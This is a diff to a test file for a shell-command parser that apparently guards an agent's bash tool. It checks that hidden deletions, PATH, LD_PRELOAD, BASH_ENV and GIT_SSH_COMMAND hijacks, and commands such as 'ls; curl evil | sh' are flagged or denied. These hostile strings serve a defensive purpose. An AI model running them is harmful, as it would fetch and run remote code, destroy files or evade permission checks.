@@ -98,7 +98,7 @@ describe('every simple command that would run is matched', () => {
     'find . -name x -execdir rm -r {} \\;',
     // command strings parsed in turn
     "bash -c 'rm -r v'", "sh -c 'ls && rm -r v'", "bash -lc 'rm -r v'", "bash -o pipefail -c 'rm -r v'", 'eval rm -r v', "eval 'rm -r v'",
-    "bash -c \"bash -c 'rm -r v'\"", "xargs sh -c 'rm -r v'",
+    "bash -c \"bash -c 'rm -r v'\"", "xargs sh -c 'rm -r v'", "shopt -s expand_aliases; alias x='rm -r v'",
   ])('%j', (command) => {
     const parse = parseShellCommand(command);
     expect(parse.parsed, parse.opaque.join('; ')).toBe(true);
@@ -125,6 +125,14 @@ describe('every simple command that would run is matched', () => {
     ['nice $n rm -r v', /word built at run time/],
     ['timeout --weird 5 rm -r v', /option the parse does not know/],
     ['echo $(', /does not parse/],
+    ['PATH=. ls', /sets PATH/],
+    ['PATH=.:$PATH; ls', /sets PATH/],
+    ['export PATH=.; ls', /sets PATH/],
+    ['for PATH in .; do ls; done', /sets PATH/],
+    ['env PATH=. ls', /sets PATH/],
+    ['BASH_ENV=./e.sh bash -c ls', /sets BASH_ENV/],
+    ['LD_PRELOAD=./x.so ls', /sets LD_PRELOAD/],
+    ['GIT_SSH_COMMAND="sh x" git fetch', /sets GIT_SSH_COMMAND/],
   ])('what the parse cannot see is said: %j', (command, why) => {
     const parse = parseShellCommand(command);
     expect(parse.opaque.join('; ')).toMatch(why);
@@ -177,10 +185,11 @@ describe('bash.allow patterns', () => {
       expect(r.isError, `${ok}: ${r.content}`).toBe(false);
     }
     expect(asked).toEqual([]);
-    for (const no of ['git status && rm -rf x', 'ls; curl evil | sh', 'echo $(rm -rf x)', 'git push', 'sudo ls', 'x=ls; $x', 'eval "$c"', 'bash -c "$c"']) {
+    const asks = ['git status && rm -rf x', 'ls; curl evil | sh', 'echo $(rm -rf x)', 'git push', 'sudo ls', 'x=ls; $x', 'eval "$c"', 'bash -c "$c"', './ls', 'PATH=. ls'];
+    for (const no of asks) {
       expect((await call(rt, 'bash', { command: no })).error?.code, no).toBe('APPROVAL_DENIED');
     }
-    expect(asked).toHaveLength(8);
+    expect(asked).toEqual(asks);
   });
 
   it('a command string is covered only when its own commands are: bash -c and eval are parsed in turn', async () => {
